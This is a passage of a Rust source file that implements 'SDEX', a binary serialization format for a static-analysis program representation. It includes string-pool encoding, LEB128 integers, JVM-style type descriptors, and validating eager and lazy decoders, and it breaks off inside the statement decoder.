//! (dots kept, not slashes) and `[` prefixes for arrays.

use flowdroid_ir::{
    BinOp, Body, BodySource, ClassId, CmpOp, Cond, Constant, FxHashMap, InvokeExpr, InvokeKind,
    Local, MethodRef, Operand, Place, Program, Rvalue, Stmt, SubSig, Type, UnOp,
};
use std::fmt;
use std::sync::Arc;

/// Current format version.
pub const VERSION: u16 = 1;

const MAGIC: &[u8; 4] = b"SDEX";

/// A decode error with byte offset.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SdexError {
    /// Description.
    pub message: String,
    /// Byte offset where decoding failed.
    pub offset: usize,
}

impl fmt::Display for SdexError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "sdex error at byte {}: {}", self.offset, self.message)
    }
}

impl std::error::Error for SdexError {}

// ===================== Encoding =====================

struct Encoder<'p> {
    program: &'p Program,
    strings: Vec<String>,
    string_idx: FxHashMap<String, u64>,
    body: Vec<u8>,
}

impl<'p> Encoder<'p> {
    fn string(&mut self, s: &str) -> u64 {
        if let Some(&i) = self.string_idx.get(s) {
            return i;
        }
        let i = self.strings.len() as u64;
        self.strings.push(s.to_owned());
        self.string_idx.insert(s.to_owned(), i);
        i
    }

    fn type_desc(&mut self, t: &Type) -> u64 {
        let d = descriptor_of(self.program, t);
        self.string(&d)
    }

    fn class_name(&mut self, c: ClassId) -> u64 {
        let n = self.program.class_name(c).to_owned();
        self.string(&n)
    }
}

/// Renders a type as a JVM-style descriptor string (`I`, `Lcom.foo;`,
/// `[J`, …). Exposed for other binary codecs (e.g. the platform
/// snapshot) that reuse SDEX's descriptor convention.
pub fn type_descriptor(p: &Program, t: &Type) -> String {
    descriptor_of(p, t)
}

/// Parses a JVM-style descriptor back into a [`Type`], creating phantom
/// classes for referenced names as needed. Returns `None` on bad syntax.
pub fn parse_type_descriptor(program: &mut Program, d: &str) -> Option<Type> {
    parse_descriptor(program, d)
}

fn descriptor_of(p: &Program, t: &Type) -> String {
    match t {
        Type::Void => "V".into(),
        Type::Boolean => "Z".into(),
        Type::Byte => "B".into(),
        Type::Char => "C".into(),
        Type::Short => "S".into(),
        Type::Int => "I".into(),
        Type::Long => "J".into(),
        Type::Float => "F".into(),
        Type::Double => "D".into(),
        Type::Ref(c) => format!("L{};", p.class_name(*c)),
        Type::Array(e) => format!("[{}", descriptor_of(p, e)),
    }
}

fn write_uleb(out: &mut Vec<u8>, mut v: u64) {
    loop {
        let byte = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

fn write_ileb(out: &mut Vec<u8>, v: i64) {
    // Zig-zag encoding.
    write_uleb(out, ((v << 1) ^ (v >> 63)) as u64);
}

/// Encodes the given classes of `program` into SDEX bytes.
///
/// # Panics
///
/// Panics if a class id is out of range for the program.
pub fn encode(program: &Program, classes: &[ClassId]) -> Vec<u8> {
    let mut enc = Encoder {
        program,
        strings: Vec::new(),
        string_idx: FxHashMap::default(),
        body: Vec::new(),
    };
    let mut body = Vec::new();
    write_uleb(&mut body, classes.len() as u64);
    for &cid in classes {
        encode_class(&mut enc, &mut body, cid);
    }
    enc.body = body;

    let mut out = Vec::new();
    out.extend_from_slice(MAGIC);
    out.extend_from_slice(&VERSION.to_le_bytes());
    write_uleb(&mut out, enc.strings.len() as u64);
    for s in &enc.strings {
        write_uleb(&mut out, s.len() as u64);
        out.extend_from_slice(s.as_bytes());
    }
    out.extend_from_slice(&enc.body);
    out
}

fn encode_class(enc: &mut Encoder<'_>, out: &mut Vec<u8>, cid: ClassId) {
    let p = enc.program;
    let c = p.class(cid);
    let name = enc.class_name(cid);
    write_uleb(out, name);
    let mut flags = 0u8;
    if c.is_interface() {
        flags |= 1;
    }
    if c.is_abstract() {
        flags |= 2;
    }
    out.push(flags);
    match c.superclass() {
        Some(s) => {
            out.push(1);
            let n = enc.class_name(s);
            write_uleb(out, n);
        }
        None => out.push(0),
    }
    write_uleb(out, c.interfaces().len() as u64);
    for &i in c.interfaces() {
        let n = enc.class_name(i);
        write_uleb(out, n);
    }
    write_uleb(out, c.fields().len() as u64);
    for &f in c.fields() {
        let fd = p.field(f);
        let n = enc.string(p.str(fd.name()));
        write_uleb(out, n);
        let t = enc.type_desc(fd.ty());
        write_uleb(out, t);
        out.push(u8::from(fd.is_static()));
    }
    write_uleb(out, c.methods().len() as u64);
    for &m in c.methods() {
        encode_method(enc, out, m);
    }
}

fn encode_method(enc: &mut Encoder<'_>, out: &mut Vec<u8>, mid: flowdroid_ir::MethodId) {
    let p = enc.program;
    let m = p.method(mid);
    let n = enc.string(p.str(m.name()));
    write_uleb(out, n);
    let r = enc.type_desc(&m.subsig().ret);
    write_uleb(out, r);
    write_uleb(out, m.subsig().params.len() as u64);
    for t in &m.subsig().params {
        let d = enc.type_desc(t);
        write_uleb(out, d);
    }
    let mut flags = 0u8;
    if m.is_static() {
        flags |= 1;
    }
    if m.is_native() {
        flags |= 2;
    }
    if m.is_abstract() {
        flags |= 4;
    }
    out.push(flags);
    match m.body() {
        None => out.push(0),
        Some(body) => {
            out.push(1);
            write_uleb(out, body.locals().len() as u64);
            for l in body.locals() {
                let n = enc.string(&l.name);
                write_uleb(out, n);
                let d = enc.type_desc(&l.ty);
                write_uleb(out, d);
            }
            write_uleb(out, body.stmts().len() as u64);
            for (i, s) in body.stmts().iter().enumerate() {
                write_uleb(out, u64::from(body.line(i)));
                encode_stmt(enc, out, s);
            }
        }
    }
}

// Statement opcodes.
const OP_NOP: u8 = 0;
const OP_ASSIGN: u8 = 1;
const OP_INVOKE: u8 = 2;
const OP_IF: u8 = 3;
const OP_GOTO: u8 = 4;
const OP_RETURN: u8 = 5;
const OP_THROW: u8 = 6;

// Place tags.
const PL_LOCAL: u8 = 0;
const PL_IFIELD: u8 = 1;
const PL_SFIELD: u8 = 2;
const PL_ARRAY: u8 = 3;

// Operand tags.
const OPR_LOCAL: u8 = 0;
const OPR_INT: u8 = 1;
const OPR_STR: u8 = 2;
const OPR_NULL: u8 = 3;
const OPR_CLASS: u8 = 4;

// Rvalue tags.
const RV_READ: u8 = 0;
const RV_CONST: u8 = 1;
const RV_NEW: u8 = 2;
const RV_NEWARRAY: u8 = 3;
const RV_BINOP: u8 = 4;
const RV_UNOP: u8 = 5;
const RV_CAST: u8 = 6;
const RV_INSTANCEOF: u8 = 7;

fn encode_operand(enc: &mut Encoder<'_>, out: &mut Vec<u8>, o: &Operand) {
    match o {
        Operand::Local(l) => {
            out.push(OPR_LOCAL);
            write_uleb(out, u64::from(l.0));
        }
        Operand::Const(c) => encode_const(enc, out, c),
    }
}

fn encode_const(enc: &mut Encoder<'_>, out: &mut Vec<u8>, c: &Constant) {
    match c {
        Constant::Int(v) => {
            out.push(OPR_INT);
            write_ileb(out, *v);
        }
        Constant::Str(s) => {
            out.push(OPR_STR);
            let i = enc.string(enc.program.str(*s).to_owned().as_str());
            write_uleb(out, i);
        }
        Constant::Null => out.push(OPR_NULL),
        Constant::Class(s) => {
            out.push(OPR_CLASS);
            let i = enc.string(enc.program.str(*s).to_owned().as_str());
            write_uleb(out, i);
        }
    }
}

fn encode_place(enc: &mut Encoder<'_>, out: &mut Vec<u8>, pl: &Place) {
    let p = enc.program;
    match pl {
        Place::Local(l) => {
            out.push(PL_LOCAL);
            write_uleb(out, u64::from(l.0));
        }
        Place::InstanceField(b, f) => {
            out.push(PL_IFIELD);
            write_uleb(out, u64::from(b.0));
            let fd = p.field(*f);
            let cn = enc.class_name(fd.class());
            write_uleb(out, cn);
            let fname = enc.string(p.str(fd.name()).to_owned().as_str());
            write_uleb(out, fname);
            let ft = enc.type_desc(fd.ty());
            write_uleb(out, ft);
        }
        Place::StaticField(f) => {
            out.push(PL_SFIELD);
            let fd = p.field(*f);
            let cn = enc.class_name(fd.class());
            write_uleb(out, cn);
            let fname = enc.string(p.str(fd.name()).to_owned().as_str());
            write_uleb(out, fname);
            let ft = enc.type_desc(fd.ty());
            write_uleb(out, ft);
        }
        Place::ArrayElem(b, idx) => {
            out.push(PL_ARRAY);
            write_uleb(out, u64::from(b.0));
            encode_operand(enc, out, idx);
        }
    }
}

fn encode_stmt(enc: &mut Encoder<'_>, out: &mut Vec<u8>, s: &Stmt) {
    match s {
        Stmt::Nop => out.push(OP_NOP),
        Stmt::Assign { lhs, rhs } => {
            out.push(OP_ASSIGN);
            encode_place(enc, out, lhs);
            match rhs {
                Rvalue::Read(p) => {
                    out.push(RV_READ);
                    encode_place(enc, out, p);
                }
                Rvalue::Const(c) => {
                    out.push(RV_CONST);
                    encode_const(enc, out, c);
                }
                Rvalue::New(c) => {
                    out.push(RV_NEW);
                    let n = enc.class_name(*c);
                    write_uleb(out, n);
                }
                Rvalue::NewArray(t, n) => {
                    out.push(RV_NEWARRAY);
                    let d = enc.type_desc(t);
                    write_uleb(out, d);
                    encode_operand(enc, out, n);
                }
                Rvalue::BinOp(op, a, b) => {
                    out.push(RV_BINOP);
                    out.push(binop_code(*op));
                    encode_operand(enc, out, a);
                    encode_operand(enc, out, b);
                }
                Rvalue::UnOp(op, a) => {
                    out.push(RV_UNOP);
                    out.push(match op {
                        UnOp::Neg => 0,
                        UnOp::Len => 1,
                    });
                    encode_operand(enc, out, a);
                }
                Rvalue::Cast(t, a) => {
                    out.push(RV_CAST);
                    let d = enc.type_desc(t);
                    write_uleb(out, d);
                    encode_operand(enc, out, a);
                }
                Rvalue::InstanceOf(a, t) => {
                    out.push(RV_INSTANCEOF);
                    let d = enc.type_desc(t);
                    write_uleb(out, d);
                    encode_operand(enc, out, a);
                }
            }
        }
        Stmt::Invoke { result, call } => {
            out.push(OP_INVOKE);
            match result {
                Some(r) => {
                    out.push(1);
                    write_uleb(out, u64::from(r.0));
                }
                None => out.push(0),
            }
            out.push(match call.kind {
                InvokeKind::Virtual => 0,
                InvokeKind::Interface => 1,
                InvokeKind::Special => 2,
                InvokeKind::Static => 3,
            });
            match call.base {
                Some(b) => {
                    out.push(1);
                    write_uleb(out, u64::from(b.0));
                }
                None => out.push(0),
            }
            let cn = enc.class_name(call.callee.class);
            write_uleb(out, cn);
            let mn = enc.string(enc.program.str(call.callee.subsig.name).to_owned().as_str());
            write_uleb(out, mn);
            let rd = enc.type_desc(&call.callee.subsig.ret);
            write_uleb(out, rd);
            write_uleb(out, call.callee.subsig.params.len() as u64);
            for t in &call.callee.subsig.params {
                let d = enc.type_desc(t);
                write_uleb(out, d);
            }
            write_uleb(out, call.args.len() as u64);
            for a in &call.args {
                encode_operand(enc, out, a);
            }
        }
        Stmt::If { cond, target } => {
            out.push(OP_IF);
            match cond {
                Cond::Opaque => out.push(0),
                Cond::Cmp(op, a, b) => {
                    out.push(1 + cmpop_code(*op));
                    encode_operand(enc, out, a);
                    encode_operand(enc, out, b);
                }
            }
            write_uleb(out, *target as u64);
        }
        Stmt::Goto { target } => {
            out.push(OP_GOTO);
            write_uleb(out, *target as u64);
        }
        Stmt::Return { value } => {
            out.push(OP_RETURN);
            match value {
                Some(v) => {
                    out.push(1);
                    encode_operand(enc, out, v);
                }
                None => out.push(0),
            }
        }
        Stmt::Throw { value } => {
            out.push(OP_THROW);
            encode_operand(enc, out, value);
        }
    }
}

fn binop_code(op: BinOp) -> u8 {
    match op {
        BinOp::Add => 0,
        BinOp::Sub => 1,
        BinOp::Mul => 2,
        BinOp::Div => 3,
        BinOp::Rem => 4,
        BinOp::And => 5,
        BinOp::Or => 6,
        BinOp::Xor => 7,
        BinOp::Shl => 8,
        BinOp::Shr => 9,
        BinOp::Cmp => 10,
    }
}

fn cmpop_code(op: CmpOp) -> u8 {
    match op {
        CmpOp::Eq => 0,
        CmpOp::Ne => 1,
        CmpOp::Lt => 2,
        CmpOp::Le => 3,
        CmpOp::Gt => 4,
        CmpOp::Ge => 5,
    }
}

// ===================== Decoding =====================

struct Decoder<'b, 's, 'p> {
    bytes: &'b [u8],
    pos: usize,
    strings: &'s [String],
    program: &'p mut Program,
}

impl<'b, 's, 'p> Decoder<'b, 's, 'p> {
    fn err(&self, msg: impl Into<String>) -> SdexError {
        SdexError { message: msg.into(), offset: self.pos }
    }

    fn u8(&mut self) -> Result<u8, SdexError> {
        let b = *self
            .bytes
            .get(self.pos)
            .ok_or_else(|| self.err("unexpected end of input"))?;
        self.pos += 1;
        Ok(b)
    }

    fn uleb(&mut self) -> Result<u64, SdexError> {
        let mut v: u64 = 0;
        let mut shift = 0;
        loop {
            let b = self.u8()?;
            if shift >= 64 {
                return Err(self.err("uleb128 overflow"));
            }
            v |= u64::from(b & 0x7f) << shift;
            if b & 0x80 == 0 {
                return Ok(v);
            }
            shift += 7;
        }
    }

    fn ileb(&mut self) -> Result<i64, SdexError> {
        let v = self.uleb()?;
        Ok(((v >> 1) as i64) ^ -((v & 1) as i64))
    }

    /// Reads a string-pool index and returns the borrowed string.
    fn str_ref(&mut self) -> Result<&'s str, SdexError> {
        let i = self.uleb()? as usize;
        match self.strings.get(i) {
            Some(s) => Ok(s.as_str()),
            None => Err(self.err(format!("string index {i} out of range"))),
        }
    }

    fn str_idx(&mut self) -> Result<String, SdexError> {
        Ok(self.str_ref()?.to_owned())
    }

    fn type_desc(&mut self) -> Result<Type, SdexError> {
        let d = self.str_idx()?;
        parse_descriptor(self.program, &d).ok_or_else(|| self.err(format!("bad descriptor `{d}`")))
    }

    fn local(&mut self) -> Result<Local, SdexError> {
        let v = self.uleb()?;
        Ok(Local(u32::try_from(v).map_err(|_| self.err("local index overflow"))?))
    }

    fn operand(&mut self) -> Result<Operand, SdexError> {
        let tag = self.u8()?;
        Ok(match tag {
            OPR_LOCAL => Operand::Local(self.local()?),
            OPR_INT => Operand::Const(Constant::Int(self.ileb()?)),
            OPR_STR => {
                let s = self.str_idx()?;
                Operand::Const(Constant::Str(self.program.intern(&s)))
            }
            OPR_NULL => Operand::Const(Constant::Null),
            OPR_CLASS => {
                let s = self.str_idx()?;
                Operand::Const(Constant::Class(self.program.intern(&s)))
            }
            t => return Err(self.err(format!("bad operand tag {t}"))),
        })
    }

    /// Resolves (declaring when missing, e.g. for forward references or
    /// phantom classes) a field.
    fn field_ref(&mut self, is_static: bool) -> Result<flowdroid_ir::FieldId, SdexError> {
        let class = self.str_idx()?;
        let fname = self.str_idx()?;
        let fty = self.type_desc()?;
        let cid = self.program.class_id(&class);
        let sym = self.program.intern(&fname);
        if let Some(f) = self.program.resolve_field(cid, sym) {
            Ok(f)
        } else {
            Ok(self.program.declare_field(cid, &fname, fty, is_static))
        }
    }

    fn place(&mut self) -> Result<Place, SdexError> {
        let tag = self.u8()?;
        Ok(match tag {
            PL_LOCAL => Place::Local(self.local()?),
            PL_IFIELD => {
                let b = self.local()?;
                let f = self.field_ref(false)?;
                Place::InstanceField(b, f)
            }
            PL_SFIELD => {
                let f = self.field_ref(true)?;
                Place::StaticField(f)
            }
            PL_ARRAY => {
                let b = self.local()?;
                let idx = self.operand()?;
                Place::ArrayElem(b, idx)
            }
            t => return Err(self.err(format!("bad place tag {t}"))),
        })
    }
}

/// Checks descriptor syntax without touching a program (used by the
/// body validators, where creating phantom classes would be premature).
/// Mirrors [`parse_descriptor`] exactly.
fn descriptor_syntax_ok(d: &str) -> bool {
    let b = d.as_bytes();
    match b.first() {
        Some(b'V' | b'Z' | b'B' | b'C' | b'S' | b'I' | b'J' | b'F' | b'D') => d.len() == 1,
        Some(b'L') => d.ends_with(';'),
        Some(b'[') => descriptor_syntax_ok(&d[1..]),
        _ => false,
    }
}

fn parse_descriptor(program: &mut Program, d: &str) -> Option<Type> {
    let b = d.as_bytes();
    match b.first()? {
        b'V' if d.len() == 1 => Some(Type::Void),
        b'Z' if d.len() == 1 => Some(Type::Boolean),
        b'B' if d.len() == 1 => Some(Type::Byte),
        b'C' if d.len() == 1 => Some(Type::Char),
        b'S' if d.len() == 1 => Some(Type::Short),
        b'I' if d.len() == 1 => Some(Type::Int),
        b'J' if d.len() == 1 => Some(Type::Long),
        b'F' if d.len() == 1 => Some(Type::Float),
        b'D' if d.len() == 1 => Some(Type::Double),
        b'L' if d.ends_with(';') => Some(program.ref_type(&d[1..d.len() - 1])),
        b'[' => Some(parse_descriptor(program, &d[1..])?.array_of()),
        _ => None,
    }
}

fn read_uleb_raw(bytes: &[u8], pos: &mut usize) -> Result<u64, SdexError> {
    let mut v: u64 = 0;
    let mut shift = 0;
    loop {
        let b = *bytes
            .get(*pos)
            .ok_or_else(|| SdexError { message: "unexpected end of input".into(), offset: *pos })?;
        *pos += 1;
        if shift >= 64 {
            return Err(SdexError { message: "uleb128 overflow".into(), offset: *pos });
        }
        v |= u64::from(b & 0x7f) << shift;
        if b & 0x80 == 0 {
            return Ok(v);
        }
        shift += 7;
    }
}

/// Validates magic/version and reads the string pool. Returns the pool
/// and the byte offset where the class section starts.
fn read_header(bytes: &[u8]) -> Result<(Vec<String>, usize), SdexError> {
    if bytes.len() < 6 || &bytes[..4] != MAGIC {
        return Err(SdexError { message: "bad magic".into(), offset: 0 });
    }
    let version = u16::from_le_bytes([bytes[4], bytes[5]]);
    if version != VERSION {
        return Err(SdexError {
            message: format!("unsupported version {version}"),
            offset: 4,
        });
    }
    let mut pos = 6;
    let nstrings = read_uleb_raw(bytes, &mut pos)? as usize;
    let mut strings = Vec::new();
    for _ in 0..nstrings {
        let len = read_uleb_raw(bytes, &mut pos)? as usize;
        if pos + len > bytes.len() {
            return Err(SdexError { message: "string overruns input".into(), offset: pos });
        }
        let s = std::str::from_utf8(&bytes[pos..pos + len])
            .map_err(|_| SdexError { message: "invalid UTF-8 in string pool".into(), offset: pos })?
            .to_owned();
        pos += len;
        strings.push(s);
    }
    Ok((strings, pos))
}

/// Decodes SDEX bytes, declaring all contained classes into `program`.
/// Returns the declared class ids.
///
/// # Errors
///
/// Returns [`SdexError`] on truncated input, bad magic/version, invalid
/// indices, malformed descriptors or class redeclaration.
pub fn decode(program: &mut Program, bytes: &[u8]) -> Result<Vec<ClassId>, SdexError> {
    let (strings, body_start) = read_header(bytes)?;
    let mut dec = Decoder { bytes, pos: body_start, strings: &strings, program };
    let nclasses = dec.uleb()? as usize;
    let mut headers = Vec::with_capacity(nclasses);
    // Pass 1: declarations (classes, fields, method signatures); each
    // body is structurally validated in full while being skipped.
    for _ in 0..nclasses {
        headers.push(decode_class_decl(&mut dec)?);
    }
    // Pass 2: bodies.
    let mut ids = Vec::with_capacity(nclasses);
    for (cid, methods) in headers {
        ids.push(cid);
        for (mid, body_bytes_start) in methods {
            dec.pos = body_bytes_start;
            let body = decode_body(&mut dec)?;
            dec.program.set_body(mid, body);
        }
    }
    Ok(ids)
}

/// The deferred-body source for lazily loaded SDEX images: the raw bytes
/// plus the decoded string pool, shared by every method of the image.
/// The token of each pending body is its byte offset.
struct LazySdex {
    bytes: Arc<[u8]>,
    strings: Vec<String>,
}

impl BodySource for LazySdex {
    fn materialize(
        &self,
        program: &mut Program,
        _method: flowdroid_ir::MethodId,
        token: u64,
    ) -> Result<Body, String> {
        let mut dec = Decoder {
            bytes: &self.bytes,
            pos: token as usize,
            strings: &self.strings,
            program,
        };
        decode_body(&mut dec).map_err(|e| e.to_string())
    }
}

/// Decodes SDEX bytes like [`decode`], but defers method-body decoding:
/// classes, fields and method signatures are declared eagerly while each
/// body is registered as a pending body (token = byte offset) that
/// [`Program::ensure_body`] materializes on first access.
///
/// Bodies are still *validated* in full here — the declaration pass walks
/// every body checking opcodes, tags, string indices, descriptors, local
/// slots and branch targets — so a later materialization of accepted
/// bytes cannot fail. Malformed images are rejected now, exactly like
/// the eager path.
///
/// # Errors
///
/// Returns [`SdexError`] on truncated input, bad magic/version, invalid
/// indices, malformed descriptors or class redeclaration.
pub fn decode_lazy(program: &mut Program, bytes: Arc<[u8]>) -> Result<Vec<ClassId>, SdexError> {
    let (strings, body_start) = read_header(&bytes)?;
    let headers = {
        let mut dec = Decoder { bytes: &bytes, pos: body_start, strings: &strings, program };
        let nclasses = dec.uleb()? as usize;
        let mut headers = Vec::with_capacity(nclasses);
        for _ in 0..nclasses {
            headers.push(decode_class_decl(&mut dec)?);
        }
        headers
    };
    let source = Arc::new(LazySdex { bytes, strings });
    let mut ids = Vec::with_capacity(headers.len());
    for (cid, methods) in headers {
        ids.push(cid);
        for (mid, body_bytes_start) in methods {
            program.defer_body(mid, source.clone(), body_bytes_start as u64);
        }
    }
    Ok(ids)
}

type ClassHeader = (ClassId, Vec<(flowdroid_ir::MethodId, usize)>);

fn decode_class_decl(dec: &mut Decoder<'_, '_, '_>) -> Result<ClassHeader, SdexError> {
    let name = dec.str_idx()?;
    let flags = dec.u8()?;
    let has_super = dec.u8()?;
    let superclass = if has_super == 1 { Some(dec.str_idx()?) } else { None };
    let nifaces = dec.uleb()? as usize;
    let mut ifaces = Vec::with_capacity(nifaces);
    for _ in 0..nifaces {
        ifaces.push(dec.str_idx()?);
    }
    if dec.program.find_class(&name).is_some_and(|c| dec.program.class(c).is_declared()) {
        return Err(dec.err(format!("class {name} already declared")));
    }
    let iface_refs: Vec<&str> = ifaces.iter().map(String::as_str).collect();
    let cid = if flags & 1 != 0 {
        dec.program.declare_interface(&name, &iface_refs)
    } else {
        dec.program.declare_class(&name, superclass.as_deref(), &iface_refs)
    };
    if flags & 2 != 0 {
        dec.program.set_abstract(cid, true);
    }
    let nfields = dec.uleb()? as usize;
    for _ in 0..nfields {
        let fname = dec.str_idx()?;
        let fty = dec.type_desc()?;
        let is_static = dec.u8()? == 1;
        dec.program.declare_field(cid, &fname, fty, is_static);
    }
    let nmethods = dec.uleb()? as usize;
    let mut methods = Vec::with_capacity(nmethods);
    for _ in 0..nmethods {
        let mname = dec.str_idx()?;
        let ret = dec.type_desc()?;
        let nparams = dec.uleb()? as usize;
        let mut params = Vec::with_capacity(nparams);
        for _ in 0..nparams {
            params.push(dec.type_desc()?);
        }
        let mflags = dec.u8()?;
        let mid = dec.program.declare_method(cid, &mname, params, ret, mflags & 1 != 0);
        if mflags & 2 != 0 {
            dec.program.set_native(mid, true);
        }
        if mflags & 4 != 0 {
            dec.program.set_method_abstract(mid, true);
        }
        let has_body = dec.u8()?;
        if has_body == 1 {
            methods.push((mid, dec.pos));
            skip_body(dec)?;
        }
    }
    Ok((cid, methods))
}

// ----- body validators ---------------------------------------------------
//
// The declaration pass walks each body once to find where the next one
// starts. These "skip" functions double as full structural validators:
// every opcode, tag, string index, descriptor, local slot and branch
// target is checked here, so a body accepted by the declaration pass is
// guaranteed to decode (the lazy loader relies on this to make deferred
// materialization infallible).

impl<'b, 's, 'p> Decoder<'b, 's, 'p> {
    /// Validates a string-pool reference to a type descriptor.
    fn check_desc(&mut self) -> Result<(), SdexError> {
        let d = self.str_ref()?;
        if !descriptor_syntax_ok(d) {
            let msg = format!("bad descriptor `{d}`");
            return Err(self.err(msg));
        }
        Ok(())
    }

    /// Validates a local slot (uleb that must fit in `u32`).
    fn check_local(&mut self) -> Result<(), SdexError> {
        let v = self.uleb()?;
        u32::try_from(v).map_err(|_| self.err("local index overflow"))?;
        Ok(())
    }
}

/// Skips and validates an encoded body (used during the declaration pass).
fn skip_body(dec: &mut Decoder<'_, '_, '_>) -> Result<(), SdexError> {
    let nlocals = dec.uleb()? as usize;
    for _ in 0..nlocals {
        dec.str_ref()?; // local name
        dec.check_desc()?; // local type
    }
    let nstmts = dec.uleb()? as usize;
    for _ in 0..nstmts {
        let line = dec.uleb()?;
        u32::try_from(line).map_err(|_| dec.err("line number overflow"))?;
        skip_stmt(dec, nstmts)?;
    }
    Ok(())
}

fn skip_const(dec: &mut Decoder<'_, '_, '_>) -> Result<(), SdexError> {
    match dec.u8()? {
        OPR_STR | OPR_CLASS => {
            dec.str_ref()?;
        }
        OPR_INT => {
            dec.ileb()?;
        }
        OPR_NULL => {}
        OPR_LOCAL => return Err(dec.err("const tag holds a local")),
        t => return Err(dec.err(format!("bad operand tag {t}"))),
    }
    Ok(())
}

fn skip_operand(dec: &mut Decoder<'_, '_, '_>) -> Result<(), SdexError> {
    match dec.u8()? {
        OPR_LOCAL => dec.check_local()?,
        OPR_STR | OPR_CLASS => {
            dec.str_ref()?;
        }
        OPR_INT => {
            dec.ileb()?;
        }
        OPR_NULL => {}
        t => return Err(dec.err(format!("bad operand tag {t}"))),
    }
    Ok(())
}

fn skip_place(dec: &mut Decoder<'_, '_, '_>) -> Result<(), SdexError> {
    match dec.u8()? {
        PL_LOCAL => dec.check_local()?,
        PL_IFIELD => {
            dec.check_local()?; // base
            dec.str_ref()?; // class name
            dec.str_ref()?; // field name
            dec.check_desc()?; // field type
        }
        PL_SFIELD => {
            dec.str_ref()?;
            dec.str_ref()?;
            dec.check_desc()?;
        }
        PL_ARRAY => {
            dec.check_local()?;
            skip_operand(dec)?;
        }
        t => return Err(dec.err(format!("bad place tag {t}"))),
    }
    Ok(())
}

fn skip_stmt(dec: &mut Decoder<'_, '_, '_>, nstmts: usize) -> Result<(), SdexError> {
    let target_check = |dec: &Decoder<'_, '_, '_>, t: u64| -> Result<(), SdexError> {
        if t as usize >= nstmts {
            Err(dec.err(format!("branch target {t} out of range")))
        } else {
            Ok(())
        }
    };
    match dec.u8()? {
        OP_NOP => {}
        OP_ASSIGN => {
            skip_place(dec)?;
            match dec.u8()? {
                RV_READ => skip_place(dec)?,
                RV_CONST => skip_const(dec)?,
                RV_NEW => {
                    dec.str_ref()?;
                }
                RV_NEWARRAY => {
                    dec.check_desc()?;
                    skip_operand(dec)?;
                }
                RV_BINOP => {
                    let code = dec.u8()?;
                    decode_binop(code).ok_or_else(|| dec.err("bad binop"))?;
                    skip_operand(dec)?;
                    skip_operand(dec)?;
                }
                RV_UNOP => {
                    let code = dec.u8()?;
                    if code > 1 {
                        return Err(dec.err("bad unop"));
                    }
                    skip_operand(dec)?;
                }
                RV_CAST | RV_INSTANCEOF => {
                    dec.check_desc()?;
                    skip_operand(dec)?;
                }
                t => return Err(dec.err(format!("bad rvalue tag {t}"))),
            }
        }
        OP_INVOKE => {
            if dec.u8()? == 1 {
                dec.check_local()?; // result
            }
            let kind = dec.u8()?;
            if kind > 3 {
                return Err(dec.err(format!("bad invoke kind {kind}")));
            }
            if dec.u8()? == 1 {
                dec.check_local()?; // base
            }
            dec.str_ref()?; // class name
            dec.str_ref()?; // method name
            dec.check_desc()?; // return type
            let nparams = dec.uleb()? as usize;
            for _ in 0..nparams {
                dec.check_desc()?;
            }
            let nargs = dec.uleb()? as usize;
            for _ in 0..nargs {
                skip_operand(dec)?;
            }
            if nargs != nparams {
                return Err(dec.err("argument/parameter count mismatch"));
            }
        }
        OP_IF => {
            let ctag = dec.u8()?;
            if ctag > 0 {
                decode_cmpop(ctag - 1).ok_or_else(|| dec.err("bad cmp op"))?;
                skip_operand(dec)?;
                skip_operand(dec)?;
            }
            let t = dec.uleb()?;
            target_check(dec, t)?;
        }
        OP_GOTO => {
            let t = dec.uleb()?;
            target_check(dec, t)?;
        }
        OP_RETURN => {
            if dec.u8()? == 1 {
                skip_operand(dec)?;
            }
        }
        OP_THROW => skip_operand(dec)?,
        t => return Err(dec.err(format!("bad opcode {t}"))),
    }
    Ok(())
}

fn decode_body(dec: &mut Decoder<'_, '_, '_>) -> Result<Body, SdexError> {
    let nlocals = dec.uleb()? as usize;
    let mut locals = Vec::with_capacity(nlocals);
    for _ in 0..nlocals {
        let name = dec.str_idx()?;
        let ty = dec.type_desc()?;
        locals.push(flowdroid_ir::LocalDecl { name, ty });
    }
    let nstmts = dec.uleb()? as usize;
    let mut stmts = Vec::with_capacity(nstmts);
    let mut lines = Vec::with_capacity(nstmts);
    for _ in 0..nstmts {
        let line = dec.uleb()? as u32;
        lines.push(line);
        stmts.push(decode_stmt(dec, nstmts)?);
    }
    Ok(Body::new(locals, stmts, lines))
}

fn decode_stmt(dec: &mut Decoder<'_, '_, '_>, nstmts: usize) -> Result<Stmt, SdexError> {
    let target_check = |dec: &Decoder<'_, '_, '_>, t: u64| -> Result<usize, SdexError> {
        let t = t as usize;
        if t >= nstmts {
            Err(dec.err(format!("branch target {t} out of range")))
        } else {
            Ok(t)
        }
    };
    Ok(match dec.u8()? {
        OP_NOP => Stmt::Nop,
        OP_ASSIGN => {
            let lhs = dec.place()?;
            let rhs = match dec.u8()? {
                RV_READ => Rvalue::Read(dec.place()?),
                RV_CONST => match dec.operand()? {
                    Operand::Const(c) => Rvalue::Const(c),
                    Operand::Local(_) => return Err(dec.err("const tag holds a local")),
                },
                RV_NEW => {
                    let name = dec.str_idx()?;
                    Rvalue::New(dec.program.class_id(&name))
                }
                RV_NEWARRAY => {
                    let t = dec.type_desc()?;
                    Rvalue::NewArray(t, dec.operand()?)
                }
                RV_BINOP => {
                    let code = dec.u8()?;
                    let op = decode_binop(code).ok_or_else(|| dec.err("bad binop"))?;
                    Rvalue::BinOp(op, dec.operand()?, dec.operand()?)
                }
                RV_UNOP => {
                    let op = match dec.u8()? {
                        0 => UnOp::Neg,
                        1 => UnOp::Len,
                        _ => return Err(dec.err("bad unop")),
                    };
                    Rvalue::UnOp(op, dec.operand()?)
                }
                RV_CAST => {
                    let t = dec.type_desc()?;
                    Rvalue::Cast(t, dec.operand()?)
                }
                RV_INSTANCEOF => {
                    let t = dec.type_desc()?;
                    let o = dec.operand()?;
                    Rvalue::InstanceOf(o, t)
                }
                t => return Err(dec.err(format!("bad rvalue tag {t}"))),
            };
            Stmt::Assign { lhs, rhs }
        }
        OP_INVOKE => {
            let result = if dec.u8()? == 1 { Some(dec.local()?) } else { None };
            let kind = match dec.u8()? {
                0 => InvokeKind::Virtual,
                1 => InvokeKind::Interface,
                2 => InvokeKind::Special,
                3 => InvokeKind::Static,
                t => return Err(dec.err(format!("bad invoke kind {t}"))),
            };
